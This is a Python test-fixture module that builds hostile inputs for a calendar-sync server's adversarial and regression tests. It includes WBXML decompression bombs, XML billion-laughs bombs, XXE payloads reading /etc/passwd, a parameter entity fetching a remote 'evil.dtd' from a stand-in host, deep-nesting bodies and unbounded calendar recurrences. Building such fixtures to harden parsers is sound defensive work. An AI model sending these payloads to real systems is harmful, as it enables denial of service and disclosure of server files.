"""Builders of hostile request bodies, shared by the adversarial suite and the
regression tests of issue #19 (each finding's own test imports its bomb from here).

WBXML (``str_t_bomb``, ``nested_devinf_bomb``): text that expands on decoding.
XML (``xml_laughs``, ``deep_propfind``, ``deep_report``, ``LAUGHS``, ``XXE``,
``PARAM_ENTITY``): entities, DTDs, nesting.  Calendar items (``far_event``,
``nested_event``, ``secondly_event``): data a conversion or an expansion
cannot bound by itself.
"""

from __future__ import annotations

from calsync.syncml import wbxml
from tests.conftest import event

CALDAV = "urn:ietf:params:xml:ns:caldav"


# -- WBXML ---------------------------------------------------------------------------------


def str_t_bomb(entry: int, refs: int, *, public_id: int = 0x1201, text_tag: int = 0x31) -> bytes:
    """A WBXML document whose one text element is ``refs`` references (``STR_T``)
    to a string-table entry of ``entry`` bytes: ``entry + 2 * refs`` bytes that
    decode into ``entry * refs`` bytes of text.  By default a SyncML 1.2 message
    (SyncML > SyncHdr > VerDTD); ``public_id=0x1203, text_tag=0x25`` makes it a
    DevInf 1.2 (DevInf > VerDTD)."""
    table = b"A" * entry + b"\0"
    head = b"\x02" + wbxml.mb_bytes(public_id) + b"\x6a" + wbxml.mb_bytes(len(table)) + table
    refs_ = b"\x83\x00" * refs
    if public_id == 0x1203:  # DevInf > VerDTD
        return head + b"\x4a" + bytes([text_tag | 0x40]) + refs_ + b"\x01\x01"
    return head + b"\x6d\x6c" + bytes([text_tag | 0x40]) + refs_ + b"\x01\x01\x01"


def nested_devinf_bomb(entry: int, refs: int) -> bytes:
    """A SyncML message whose Put carries a nested WBXML DevInf that is a string-table
    bomb (SyncML > SyncBody > Put > Item > Data, opaque)."""
    inner = str_t_bomb(entry, refs, public_id=0x1203, text_tag=0x25)
    data = b"\xc3" + wbxml.mb_bytes(len(inner)) + inner
    body = b"\x6b\x5f\x54\x4f" + data + b"\x01\x01\x01\x01"  # SyncBody Put Item Data
    return b"\x02\xa4\x01\x6a\x00\x6d" + body + b"\x01"


def empty_elements(count: int) -> bytes:
    """A SyncML WBXML message of ``count`` empty ``<SyncBody/>`` elements (2 bytes each)."""
    return b"\x02\xa4\x01\x6a\x00\x6d" + b"\x2b" * count + b"\x01"


# -- XML -----------------------------------------------------------------------------------

# a SyncML message that is a billion-laughs bomb
XML_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE SyncML [
 <!ENTITY a "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa">
 <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
 <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
 <!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">
]>
<SyncML><SyncHdr><VerDTD>&d;&d;&d;&d;</VerDTD></SyncHdr></SyncML>"""

XML_EXTERNAL = b"""<?xml version="1.0"?>
<!DOCTYPE SyncML [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<SyncML><SyncHdr><VerDTD>&x;</VerDTD></SyncHdr></SyncML>"""


def deep_xml(root: bytes, depth: int, element: bytes = b"a") -> bytes:
    """``<root>`` with elements nested ``depth`` deep in all (``root`` included)."""
    inner = depth - 1
    return (
        b"<"
        + root
        + b">"
        + b"<%s>" % element * inner
        + b"</%s>" % element * inner
        + (b"</" + root + b">")
    )


def deep_propfind(depth: int) -> bytes:
    """A PROPFIND whose elements nest ``depth`` deep in all."""
    inner = depth - 2
    return (
        b'<?xml version="1.0"?><d:propfind xmlns:d="DAV:"><d:prop>'
        + b"<d:x>" * inner
        + b"</d:x>" * inner
        + b"</d:prop></d:propfind>"
    )


def deep_report(depth: int, element: str = 'c:comp-filter name="VCALENDAR"') -> bytes:
    """A calendar-query whose filter nests ``depth`` deep in all (``element`` inside)."""
    inner = depth - 2
    name = element.split()[0]
    return (
        f'<?xml version="1.0"?><c:calendar-query xmlns:d="DAV:" xmlns:c="{CALDAV}">'
        "<c:filter>".encode()
        + f"<{element}>".encode() * inner
        + f"</{name}>".encode() * inner
        + b"</c:filter></c:calendar-query>"
    )


LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<d:propfind xmlns:d="DAV:"><d:prop><d:displayname>&lol9;</d:displayname></d:prop></d:propfind>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<d:propfind xmlns:d="DAV:"><d:prop><d:displayname>&xxe;</d:displayname></d:prop></d:propfind>"""

PARAM_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE d [<!ENTITY % remote SYSTEM "http://192.0.2.1/evil.dtd"> %remote;]>
<d:propfind xmlns:d="DAV:"><d:prop><d:displayname/></d:prop></d:propfind>"""


# -- calendar items ------------------------------------------------------------------------


def far_event(uid: str) -> bytes:
    """An event starting in the last hour of year 9999 (its end is in year 10000)."""
    return event(uid, "Far", start="99991231T230000Z")


def nested_event(uid: str, depth: int = 10_000) -> bytes:
    """An event with VEVENTs nested ``depth`` deep inside it."""
    return event(uid, "Nested").replace(
        b"END:VEVENT", b"BEGIN:VEVENT\r\n" * depth + b"END:VEVENT\r\n" * depth + b"END:VEVENT"
    )


def secondly_event(uid: str, start: str = "20240101T000000Z") -> bytes:
    """An event repeating every second without end."""
    return event(uid, "Every second", start=start, extra="RRULE:FREQ=SECONDLY")
